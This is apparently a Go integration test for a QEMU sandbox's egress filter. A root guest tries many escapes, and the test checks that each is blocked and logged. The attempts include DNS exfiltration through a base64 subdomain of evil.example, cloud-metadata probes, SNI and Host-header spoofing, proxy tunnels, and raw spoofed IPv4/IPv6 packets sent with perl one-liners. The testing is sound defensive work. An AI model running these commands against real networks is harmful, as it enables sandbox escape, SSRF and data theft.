package qemu_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/vmette/vmette-mcp/desktop"
	"github.com/vmette/vmette-mcp/sandbox"
	"github.com/vmette/vmette-mcp/sandbox/egress/audit"
	"github.com/vmette/vmette-mcp/sandbox/egress/policy"
	"github.com/vmette/vmette-mcp/sandbox/internal/dnstest"
	"github.com/vmette/vmette-mcp/sandbox/qemu"
	"github.com/vmette/vmette-mcp/sandbox/sandboxtest/testimage"
)

// outside is what a guest finds beyond its network: servers of this process, on
// loopback, under addresses that belong to nobody. No packet leaves the machine.
type outside struct {
	names *dnstest.Server

	mu    sync.Mutex
	where map[string]string
	log   []audit.Entry
}

func (o *outside) options() sandbox.NetworkOptions {
	return sandbox.NetworkOptions{
		OnEntry: func(e audit.Entry) {
			o.mu.Lock()
			defer o.mu.Unlock()
			o.log = append(o.log, e)
		},
		Lookup: o.names.Resolver().LookupNetIP,
		Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
			o.mu.Lock()
			real, ok := o.where[address]
			o.mu.Unlock()
			if !ok {
				return nil, &net.OpError{Op: "dial", Net: network, Err: os.NewSyscallError("connect", syscall.ECONNREFUSED)}
			}
			return new(net.Dialer).DialContext(ctx, network, real)
		},
	}
}

// blocked returns what was blocked since the last call, a line each.
func (o *outside) blocked() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var lines []string
	for _, e := range o.log {
		if e.Verdict == audit.Blocked {
			lines = append(lines, e.String())
		}
	}
	o.log = nil
	return strings.Join(lines, "\n")
}

// clientHello returns the first bytes of a TLS client that means name.
func clientHello(t *testing.T, name string) []byte {
	t.Helper()
	ours, theirs := net.Pipe()
	defer ours.Close()
	go func() {
		tls.Client(theirs, &tls.Config{ServerName: name, InsecureSkipVerify: true, MaxVersion: tls.VersionTLS12}).Handshake()
		theirs.Close()
	}()
	buf := make([]byte, 16<<10)
	n, err := ours.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	return buf[:n]
}

// encrypted returns a ClientHello with an encrypted one in it (RFC 9849), as far as
// anybody on the way can tell.
func encrypted(hello []byte) []byte {
	extension := []byte{0xfe, 0x0d, 0, 10, 0, 0, 1, 0, 1, 7, 0, 0, 0, 0}
	b := append(bytes.Clone(hello), extension...)
	grow := func(at int) {
		binary.BigEndian.PutUint16(b[at:], binary.BigEndian.Uint16(b[at:])+uint16(len(extension)))
	}
	grow(3)                                        // the record
	grow(7)                                        // the message
	at := 5 + 4 + 2 + 32                           // the session
	at += 1 + int(b[at])                           // cipher suites
	at += 2 + int(binary.BigEndian.Uint16(b[at:])) // compression methods
	grow(at + 1 + int(b[at]))                      // the extensions
	return b
}

// frame6 returns a frame of IPv6 from the guest.
func frame6(next byte, to string, payload ...byte) string {
	b := []byte{0x02, 0x76, 0x6d, 0, 0, 1, 0x02, 0x76, 0x6d, 0, 0, 2, 0x86, 0xdd, 0x60, 0, 0, 0, 0, byte(len(payload)), next, 64}
	b = append(b, netip.MustParseAddr("fd76:6d65:7474:6500::2").AsSlice()...)
	b = append(b, netip.MustParseAddr(to).AsSlice()...)
	return hex.EncodeToString(append(b, payload...))
}

// ownAddress returns an address of this host that is not loopback, "" when it has
// none.
func ownAddress(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			return p.Addr().String()
		}
	}
	return ""
}

// TestIntegrationNetwork has a guest, as root, try everything against the policy of
// its network.
func TestIntegrationNetwork(t *testing.T) {
	who := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost {
			io.Copy(io.Discard, r.Body)
		}
		fmt.Fprintf(w, "reached %s\n", r.Host)
	})
	plain, secure := httptest.NewServer(who), httptest.NewTLSServer(who)
	defer plain.Close()
	defer secure.Close()
	_, loopPort, _ := net.SplitHostPort(plain.Listener.Addr().String())
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close")
		fmt.Fprintf(w, "a tunnel to %s\n", r.URL.Host)
	}))
	defer proxy.Close()
	names, err := dnstest.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer names.Close()
	for name, answers := range map[string][]string{
		"ok.example":      {"203.0.113.10"},
		"v6.example":      {"2001:db8::10"},
		"private.example": {"alias nas.lan.example"},
		"nas.lan.example": {"10.0.0.7"},
		"rebind.example":  {"203.0.113.30", "10.0.0.7"},
		"evil.example":    {"203.0.113.66"},
	} {
		names.Set(name, answers...)
	}
	o := &outside{names: names, where: map[string]string{"203.0.113.50:3128": proxy.Listener.Addr().String()}}
	for _, a := range []string{"203.0.113.10", "[2001:db8::10]", "203.0.113.30", "203.0.113.66", "10.0.0.7", "192.168.1.1", "127.0.0.1"} {
		o.where[a+":80"], o.where[a+":443"] = plain.Listener.Addr().String(), secure.Listener.Addr().String()
	}
	silent, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer silent.Close()
	o.where["203.0.113.10:22022"] = silent.Addr().String()
	cfg := testimage.Minimal(t)
	cfg.Network = sandbox.NewNetwork(policy.Config{Mode: policy.Allow, Allow: []string{"ok.example", "v6.example", "private.example", "rebind.example", "ok.example:7000-7002", "203.0.113.50:3128", "ok.example:22022"}})
	s, err := sandbox.Start(t.Context(), backend(t, qemu.Options{}), cfg, sandbox.StartOptions{Network: o.options()})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Stop()
	run := func(command string) string {
		t.Helper()
		res, err := s.Do(t.Context(), desktop.Exec{Command: "sudo bash -c '" + command + "' 2>&1", TimeoutMS: 60_000}, desktop.Observe{})
		if err != nil {
			t.Fatalf("%s: %v", command, err)
		}
		return strings.TrimSpace(string(res.Stdout) + string(res.Stderr))
	}
	get := func(host, port, name string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/%s/%s && printf "GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" >&3 && timeout 10 tail -n 1 <&3`, host, port, name)
	}
	// The first byte of what a TLS server answers: 22 for its hello, 21 for an alert.
	says := func(host string, words []byte) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/%s/443 && base64 -d <<< %s >&3 && timeout 10 head -c 1 <&3 | od -An -tu1`, host, base64.StdEncoding.EncodeToString(words))
	}
	hello := func(host, name string) string { return says(host, clientHello(t, name)) }
	open := func(host, port string) string {
		return fmt.Sprintf(`timeout 10 bash -c "exec 3<>/dev/tcp/%s/%s" && echo open`, host, port)
	}
	perl := func(program string) string { return `perl -MSocket -e "` + program + `"` }
	raw := func(proto, packet, to string) string {
		return perl(fmt.Sprintf(`socket(S,PF_INET,SOCK_RAW,%s) or die; %s send(S,pack(q(H*),q(%s)),0,sockaddr_in(0,inet_aton(q(%s)))) or die; print q(sent)`,
			proto, map[string]string{"255": "setsockopt(S,0,3,1);"}[proto], packet, to))
	}
	// In frames, 02:76:6d:00:00:02 stands for the guest's own address.
	frame := func(ether int, frame string) string {
		return perl(fmt.Sprintf(`\$i=qx(cat /sys/class/net/eth0/ifindex); \$m=qx(cat /sys/class/net/eth0/address); \$m=~s/\W//g; `+
			`\$f=q(%s); \$f=~s/02766d000002/\$m/; socket(S,17,3,0) or die; send(S,pack(q(H*),\$f),0,pack(q(SnlSCCa8),17,%d,\$i,1,0,6,0)) or die; print q(sent)`, frame, ether))
	}
	connect := func(proxy string) string {
		return fmt.Sprintf(`exec 3<>/dev/tcp/%s && printf "CONNECT evil.example:443 HTTP/1.1\r\nHost: ok.example\r\n\r\n" >&3 && timeout 10 tail -n 1 <&3`, proxy)
	}
	own := ownAddress(t)
	for _, tt := range []struct {
		name    string
		command string
		says    string // that the guest sees; "" for nothing but a failure
		log     string // that the log has; "" where nothing is to be logged
	}{
		{"an allowed name", get("ok.example", "80", "ok.example"), "reached ok.example", ""},
		{"an allowed name over TLS", hello("ok.example", "ok.example"), "22", ""},
		{"an allowed name over IPv6", get("v6.example", "80", "v6.example"), "reached v6.example", ""},
		{"loopback of the host, through the gateway", open("192.0.2.253", loopPort), "refused", "127.0.0.1:" + loopPort + ": the address is always refused (loopback)"},
		{"loopback of the host, by name", open("host.vmette.internal", loopPort), "refused", "127.0.0.1:" + loopPort},
		{"loopback of the host, over IPv6", open("fd76:6d65:7474:6500::1", loopPort), "refused", "[::1]:" + loopPort},
		{"the host's own address", open(own, loopPort), "refused", own + ":" + loopPort + ": the address is always refused"},
		{"a private address", open("192.168.1.1", "80"), "refused", "192.168.1.1:80: the address is always refused (private)"},
		{"metadata", open("169.254.169.254", "80"), "refused", "(cloud metadata)"},
		{"metadata of Azure", open("168.63.129.16", "80"), "refused", "(cloud metadata)"},
		{"metadata of Alibaba", open("100.100.100.200", "80"), "refused", "(cloud metadata)"},
		{"metadata of Oracle", open("192.0.0.192", "80"), "refused", "(cloud metadata)"},
		{"metadata over IPv6", open("fd00:ec2::254", "80"), "refused", "(cloud metadata)"},
		{"mapped into IPv6", open("::ffff:10.0.0.7", "80"), "refused", "10.0.0.7:80: the address is always refused (private)"},
		{"through NAT64", open("64:ff9b::a00:7", "80"), "refused", "(private, in another form)"},
		{"an address without a name", open("203.0.113.66", "443"), "refused", "203.0.113.66:443: it is not on the list"},
		{"a name that is not allowed", "getent ahostsv4 evil.example || echo none", "none", "dns evil.example: it is not on the list"},
		{"a name with data in it", "getent ahostsv4 c2VjcmV0.evil.example || echo none", "none", "dns c2vjcmv0.evil.example: it is not on the list"},
		{"a name that leads to a private address", "getent ahostsv4 private.example || echo none", "none", "its address 10.0.0.7 is always refused (private)"},
		{"a name that is rebound", "getent ahostsv4 rebind.example | head -c 12; getent ahostsv4 rebind.example || echo none", "203.0.113.30none", "its address 10.0.0.7 is always refused (private)"},
		{"the port of an allowed name", open("ok.example", "22"), "refused", "tcp port 22 of ok.example is not on the list"},
		{"another name server", perl(`socket(S,PF_INET,SOCK_DGRAM,17); connect(S,sockaddr_in(53,inet_aton(q(203.0.113.10)))); send(S,q(x),0); recv(S,\$b,9,0) // print qq(\$!)`), "refused", "udp ok.example:53"},
		{"QUIC", perl(`socket(S,PF_INET,SOCK_DGRAM,17); connect(S,sockaddr_in(443,inet_aton(q(203.0.113.10)))); send(S,q(x),0); recv(S,\$b,9,0) // print qq(\$!)`), "refused", "udp ok.example:443"},
		{"another server name at an allowed address", hello("ok.example", "dns.google"), "21", "dns.google:443 (203.0.113.10)"},
		{"no server name", hello("ok.example", ""), "21", "names no server"},
		{"another host at an allowed address", get("ok.example", "80", "evil.example"), "Blocked: the host of the HTTP request", "http evil.example:80"},
		{"an encrypted server name", says("ok.example", encrypted(clientHello(t, "ok.example"))), "21", "(ECH)"},
		{"a tunnel through a proxy", connect("ok.example/80"), "Blocked: a tunnel", "a tunnel through a proxy"},
		{"a tunnel through a proxy whose address is on the list", connect("203.0.113.50/3128"), "a tunnel to evil.example:443", ""},
		{"ICMP", raw("1", "0800f7ff00000000", "203.0.113.10"), "sent", "packet 203.0.113.10: ICMP is not carried"},
		{"GRE", raw("47", "0000080000000000", "203.0.113.10"), "sent", "packet 203.0.113.10: it is neither TCP nor UDP"},
		{"another's source address", raw("255", "450000200001000040110000c0000203cb00710a0001000200080000", "203.0.113.10"), "sent", "its source address is not the guest"},
		{"a fragment", raw("255", "4500001c0001200040110000c00002fecb00710a0035003500080000", "203.0.113.10"), "sent", "it is a fragment"},
		{"IP options", raw("255", "460000200001000040110000c00002fecb00710a010101010035003500080000", "203.0.113.10"), "sent", "it has IP options"},
		{"loopback of the host, as a frame", frame(0x0800, "02766d00000102766d00000208004500001c0001000040110000c00002fe7f0000010035003500080000"),
			"sent", "packet 127.0.0.1: it is for the loopback of another machine"},
		{"another's hardware address", frame(0x0800, "02766d00000102766d00000308004500001c0001000040110000c00002fecb00710a0035003500080000"), "sent", "its hardware address is not the guest's"},
		{"mapped into IPv6, as a frame", frame(0x86dd, frame6(17, "::ffff:10.0.0.7", 0, 53, 0, 53, 0, 8, 0, 0)), "sent", "its address is one of IPv4, in a form that is not for packets"},
		{"a fragment of IPv6", frame(0x86dd, frame6(44, "2001:db8::10", 17, 0, 0, 1, 0, 0, 0, 1, 0, 53, 0, 53, 0, 8, 0, 0)), "sent", "packet 2001:db8::10: it is neither TCP nor UDP, or has extension headers"},
		{"options of IPv6", frame(0x86dd, frame6(0, "2001:db8::10", 17, 0, 1, 4, 0, 0, 0, 0, 0, 53, 0, 53, 0, 8, 0, 0)), "sent", "packet 2001:db8::10: it is neither TCP nor UDP, or has extension headers"},
		{"a routing header", frame(0x86dd, frame6(43, "2001:db8::10", 17, 0, 0, 0, 0, 0, 0, 0, 0, 53, 0, 53, 0, 8, 0, 0)), "sent", "packet 2001:db8::10: it is neither TCP nor UDP, or has extension headers"},
	} {
		if strings.Contains(tt.command, "/dev/tcp//") {
			continue // this host has no address but loopback
		}
		o.blocked()
		said := run(tt.command)
		log := o.blocked()
		if !strings.Contains(said, tt.says) || tt.says == "refused" && strings.Contains(said, "open") {
			t.Errorf("%s: the guest sees %q, want %q", tt.name, said, tt.says)
		}
		if !strings.Contains(log, tt.log) || tt.log == "" && log != "" {
			t.Errorf("%s: the log says %q, want %q", tt.name, log, tt.log)
		}
	}
	t.Run("figures", func(t *testing.T) { networkFigures(t, s, o, run) })
	t.Run("open", func(t *testing.T) {
		if err := s.SetNetwork(sandbox.NewNetwork(policy.Config{Mode: policy.Open})); err != nil {
			t.Fatal(err)
		}
		refused := []string{
			"192.0.2.253", "fd76:6d65:7474:6500::1", own, // the host
			"192.0.2.1", // where another sandbox would be
			"169.254.169.254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "192.0.0.192", "fd00:ec2::254", "fd20:ce::254",
			"10.0.0.7", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.0.1", "192.0.0.1", "198.18.0.1", "fc00::1", "4000::1",
			"64:ff9b::a00:7", "64:ff9b:1::1", "2002:a00:7::1", "2001:0:a00:7::1", "::ffff:10.0.0.7",
		}
		o.blocked()
		said := run(`for a in ` + strings.Join(refused, " ") + `; do timeout 10 bash -c "exec 3<>/dev/tcp/$a/80" 2>/dev/null && echo open $a; done; echo done`)
		if said != "done" {
			t.Errorf("the guest sees %q", said)
		}
		log := o.blocked()
		for _, a := range refused {
			switch a {
			case "192.0.2.253":
				a = "127.0.0.1"
			case "fd76:6d65:7474:6500::1":
				a = "::1"
			case "": // this host has no address but loopback
				continue
			}
			to := netip.AddrPortFrom(netip.MustParseAddr(a).Unmap(), 80).String()
			if !strings.Contains(log, "blocked tcp "+to+": the address is always refused") {
				t.Errorf("%s is not refused: %s", to, log)
			}
		}
		if got := run(get("203.0.113.66", "80", "evil.example")); !strings.Contains(got, "reached evil.example") {
			t.Errorf("an address that is none of these: %q", got)
		}
		if err := s.SetNetwork(cfg.Network); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("saved", func(t *testing.T) {
		// Nobody writes to this connection, and its end is a line in a file.
		run("(exec 3<>/dev/tcp/ok.example/22022; echo hello >&3; echo held >/run/held; read -u 3; echo cut >>/run/held) >/dev/null 2>&1 & until [ -s /run/held ]; do read -t 0.1 <> <(:); done")
		card := run("cat /sys/class/net/e*/address")
		snap, err := s.Snapshot(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		defer snap.Close()
		wait := "for i in $(seq 100); do grep -q up /sys/class/net/e*/operstate && break; read -t 0.1 <> <(:); done; "
		if got := run(wait + get("ok.example", "80", "ok.example")); !strings.Contains(got, "reached ok.example") {
			t.Errorf("after it was saved: %q", got)
		}
		if got := run("cat /run/held /sys/class/net/e*/address"); got != "held\n"+card {
			t.Errorf("after it was saved, of a connection that it holds and of its card: %q, want held and %s", got, card)
		}
		fork, err := sandbox.Resume(t.Context(), backend(t, qemu.Options{}), snap, sandbox.StartOptions{Network: o.options()})
		if err != nil {
			t.Fatal(err)
		}
		defer fork.Stop()
		first := s
		s = fork
		if got := run(wait + get("203.0.113.10", "80", "ok.example")); !strings.Contains(got, "reached ok.example") {
			t.Errorf("in a fork, by the address that it remembers: %q", got)
		}
		if got := run(wait + get("ok.example", "80", "ok.example")); !strings.Contains(got, "reached ok.example") {
			t.Errorf("in a fork: %q", got)
		}
		if got := run("for i in $(seq 100); do [ $(wc -l </run/held) = 2 ] && break; read -t 0.1 <> <(:); done; cat /run/held"); got != "held\ncut" {
			t.Errorf("in a fork, of a connection that was held: %q", got)
		}
		if got := run("cat /sys/class/net/e*/address"); got == card || len(got) != len(card) {
			t.Errorf("the card of a fork has the address %q, and that of its parent %q", got, card)
		}
		o.blocked()
		if got := run(get("ok.example", "80", "evil.example")); !strings.Contains(got, "Blocked") {
			t.Errorf("in a fork, another host: %q", got)
		}
		// The other sandbox runs, and what this one sends to everybody does not come there.
		const broadcast = "ffffffffffff02766d00000288b500000000000000000000000000000000000000000000"
		got := func(s *sandbox.Session) (packets int) {
			t.Helper()
			res, err := s.Do(t.Context(), desktop.Exec{Command: "cat /sys/class/net/eth0/statistics/rx_packets"}, desktop.Observe{})
			if err != nil {
				t.Fatal(err)
			}
			if _, err := fmt.Sscan(string(res.Stdout), &packets); err != nil {
				t.Fatalf("%q: %v", res.Stdout, err)
			}
			return packets
		}
		before := got(first)
		if said := run("for i in 1 2 3 4 5; do " + frame(0x88b5, broadcast) + "; done"); said != strings.Repeat("sent", 5) {
			t.Errorf("frames to everybody: %q", said)
		}
		for _, address := range []string{"192.0.2.254", "192.0.2.1", "fd76:6d65:7474:6500::3"} {
			if said := run(open(address, "80")); strings.Contains(said, "open") {
				t.Errorf("%s: %q", address, said)
			}
		}
		if n := got(first) - before; n >= 5 {
			t.Errorf("another sandbox has got %d packets", n)
		}
	})
}

// networkFigures measures what docs/network.md says of a guest. What it may reach is
// named, and looked at, or everything.
func networkFigures(t *testing.T, s *sandbox.Session, o *outside, run func(string) string) {
	const size = 32 << 20
	took := make(chan time.Duration, 1)
	serve := func(port int, f func(c net.Conn)) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		o.mu.Lock()
		o.where[fmt.Sprintf("203.0.113.10:%d", port)] = ln.Addr().String()
		o.mu.Unlock()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				f(c)
				c.Close()
			}
		}()
	}
	timed := func(f func(c net.Conn)) func(c net.Conn) {
		return func(c net.Conn) {
			io.ReadFull(c, make([]byte, 3))
			began := time.Now()
			f(c)
			io.Copy(io.Discard, c) // until the guest has all and says so
			took <- time.Since(began)
		}
	}
	serve(7000, timed(func(c net.Conn) { io.CopyN(c, zeros{}, size) }))
	serve(7001, timed(func(net.Conn) {}))
	serve(7002, func(c net.Conn) { io.Copy(c, c) })
	defer s.SetNetwork(s.Config().Network)
	for _, p := range []policy.Config{s.Config().Network.Policy(), {Mode: policy.Open}} {
		if err := s.SetNetwork(sandbox.NewNetwork(p)); err != nil {
			t.Fatal(err)
		}
		run("getent ahostsv4 ok.example")
		for way, command := range map[string]string{
			"to the guest":   fmt.Sprintf("exec 3<>/dev/tcp/203.0.113.10/7000; echo go >&3; head -c %d <&3 | wc -c", size),
			"from the guest": fmt.Sprintf("exec 3<>/dev/tcp/203.0.113.10/7001; echo go >&3; head -c %d /dev/zero >&3; echo %d", size, size),
		} {
			if got := run(command); got != fmt.Sprint(size) {
				t.Errorf("%s, one stream %s: %q", p.Mode, way, got)
				continue
			}
			d := <-took
			t.Logf("%s: one stream %s: %.0f MB/s", p.Mode, way, size/1e6/d.Seconds())
		}
		const rounds = 50
		t.Logf("%s: to connect, say a line and hear it back: %s us", p.Mode, run(fmt.Sprintf(
			`a=$EPOCHREALTIME; for i in $(seq %d); do exec 3<>/dev/tcp/203.0.113.10/7002; echo line >&3; read -r -u 3 l; exec 3<&-; done; b=$EPOCHREALTIME; echo $(( (${b/./} - ${a/./}) / %d ))`, rounds, rounds)))
	}
}

// zeros never ends.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) { return len(b), nil }
